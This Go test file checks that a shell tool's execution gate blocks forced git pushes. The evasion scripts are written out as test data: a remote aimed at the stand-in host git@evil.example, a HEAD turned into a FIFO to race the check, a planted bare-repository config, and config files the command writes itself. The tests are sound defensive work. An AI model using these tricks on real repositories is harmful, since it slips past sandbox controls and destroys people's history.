package shelltool

import (
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// TestExecGatePushRepositorySwapped (review rev20f H1, H2): git passes
// over a git directory whose HEAD is not valid (to a repository of the
// command's above it, or a bare one at the work tree's level), and reads
// its configuration after its exec stop (a remotes/ file added while git
// waits on a FIFO): neither lets the command's forced push land. Each is
// a script (no line shows it); the person's origin must keep "init".
func TestExecGatePushRepositorySwapped(t *testing.T) {
	commit := "git -c user.email=a@b -c user.name=a commit -q --allow-empty "
	// (An ssh remote: the transport is ssh, no push form; the person's
	// core.sshCommand is a stand-in that logs where git connects.)
	remotes := "mkdir -p .git/remotes && printf 'URL: git@evil.example:x/y.git\\nPush: +refs/heads/main:refs/heads/main\\n' >.git/remotes/origin2"
	for _, tt := range []struct{ name, script string }{
		{"a bare repository at the work tree's level", `c=$(git commit-tree -m rewritten $(git mktree </dev/null))
mkdir -p objects/info refs/heads && echo "$PWD/.git/objects" >objects/info/alternates && echo $c >refs/heads/main
printf '[remote "origin"]\n\turl = %s/origin.git\n\tpush = +refs/heads/main:refs/heads/main\n' "$PWD" >config
echo 'ref: refs/heads/main' >HEAD
echo junk >.git/HEAD
git push -q origin main
echo 'ref: refs/heads/main' >.git/HEAD; rm -rf HEAD config objects refs`},
		{"configuration added after the exec stop", `rm -f /tmp/f; mkfifo /tmp/f
GIT_TRACE2_EVENT=/tmp/f git push -q origin2 main &
sleep 0.5
` + remotes + `
cat /tmp/f >/dev/null; wait`},
		{"a HEAD made a FIFO", `rm .git/HEAD && mkfifo .git/HEAD
git push -q origin2 main &
sleep 0.5
` + remotes + `
(while :; do echo 'ref: refs/heads/main' >.git/HEAD; done) & w=$!
wait %1; kill $w; rm .git/HEAD; echo 'ref: refs/heads/main' >.git/HEAD`},
	} {
		t.Run(tt.name, func(t *testing.T) {
			ws := gitWorkspace(t, "git init -q --bare -b main origin.git && git remote add origin ./origin.git && git push -q origin main && "+commit+"--amend -m rewritten && git config core.sshCommand \"$PWD/fakessh\" && printf '#!/bin/sh\\necho \"$*\" >>\"$(dirname \"$0\")/ssh.log\"\\nexit 1\\n' >fakessh && chmod +x fakessh")
			if err := os.WriteFile(filepath.Join(ws, "s.sh"), []byte(tt.script+"\n"), 0o755); err != nil {
				t.Fatal(err)
			}
			p := policyFor(t, ws, `profile = "interactive-dev"`)
			out := runTool(t, &Tool{}, (&gateCall{}).env(p), "sh ./s.sh")
			log, err := exec.Command("git", "-C", filepath.Join(ws, "origin.git"), "log", "--format=%s", "main").CombinedOutput()
			if err != nil || !strings.Contains(string(log), "init") {
				t.Fatalf("origin unreadable (the test proves nothing): %v %s", err, log)
			}
			if strings.Contains(string(log), "rewritten") {
				t.Errorf("the command's forced push landed: %+v", out)
			}
			if b, _ := os.ReadFile(filepath.Join(ws, "ssh.log")); strings.Contains(string(b), "evil.example") {
				t.Errorf("the command's push reached its remote: %s %+v", b, out)
			}
		})
	}
}

// TestExecGatePushIncludedConfig (review rev20f M1, rev20g F2, F3): the
// person's config includes a worktree file (include.path =
// ../.gitconfig-shared): one there is bound read-only; one the command
// makes (with a forcing refspec) makes the push critical, from the main
// work tree, a linked worktree, or through config.worktree.
func TestExecGatePushIncludedConfig(t *testing.T) {
	force := "printf '[remote \"origin\"]\\n\\tpush = +refs/heads/main:refs/heads/main\\n' >.gitconfig-shared"
	for _, tt := range []struct{ name, setup, script string }{
		{"an existing included file", "git config include.path ../.gitconfig-shared && touch .gitconfig-shared", force + "; git push -q origin main"},
		{"an included file the command makes", "git config include.path ../.gitconfig-shared", force + "; git push -q origin main"},
		{"from a linked worktree", "git worktree add -q wt2 -b other && git config include.path ../.gitconfig-shared", force + "; cd wt2 && git push -q origin main"},
		{"through config.worktree", "git config extensions.worktreeConfig true && git config --worktree include.path ../.gitconfig-shared", force + "; git push -q origin main"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			ws := gitWorkspace(t, "git init -q --bare -b main origin.git && git remote add origin \"$PWD/origin.git\" && git push -q origin main && "+tt.setup+" && git -c user.email=a@b -c user.name=a commit -q --amend --allow-empty -m rewritten")
			if err := os.WriteFile(filepath.Join(ws, "s.sh"), []byte(tt.script+"\n"), 0o755); err != nil {
				t.Fatal(err)
			}
			p := policyFor(t, ws, `profile = "interactive-dev"`)
			out := runTool(t, &Tool{}, (&gateCall{}).env(p), "sh ./s.sh")
			log, err := exec.Command("git", "-C", filepath.Join(ws, "origin.git"), "log", "--format=%s", "main").CombinedOutput()
			if err != nil {
				t.Fatalf("origin unreadable: %v %s", err, log)
			}
			if strings.Contains(string(log), "rewritten") || !strings.Contains(string(log), "init") {
				t.Errorf("a forced push through an included config file the command wrote landed (%s): %+v", log, out)
			}
			if b, err := os.ReadFile(filepath.Join(ws, ".gitconfig-shared")); tt.name == "an existing included file" && (err != nil || len(b) != 0) {
				t.Errorf("the command wrote the included config, read-only in the sandbox (%q, %v)", b, err)
			}
		})
	}
}

func TestConfigIncludes(t *testing.T) {
	text := "[core]\n\tpath = not-this\n[include]\n\tpath = ../a ; c\n[includeIf \"gitdir:~/x/\"]\n\tPath = \"/b c\"\n[Include] path = d\n[user]\n\tpath = no\n"
	if got, want := configIncludes(text), []string{"../a", "/b c", "d"}; !slices.Equal(got, want) {
		t.Errorf("configIncludes = %q, want %q", got, want)
	}
}
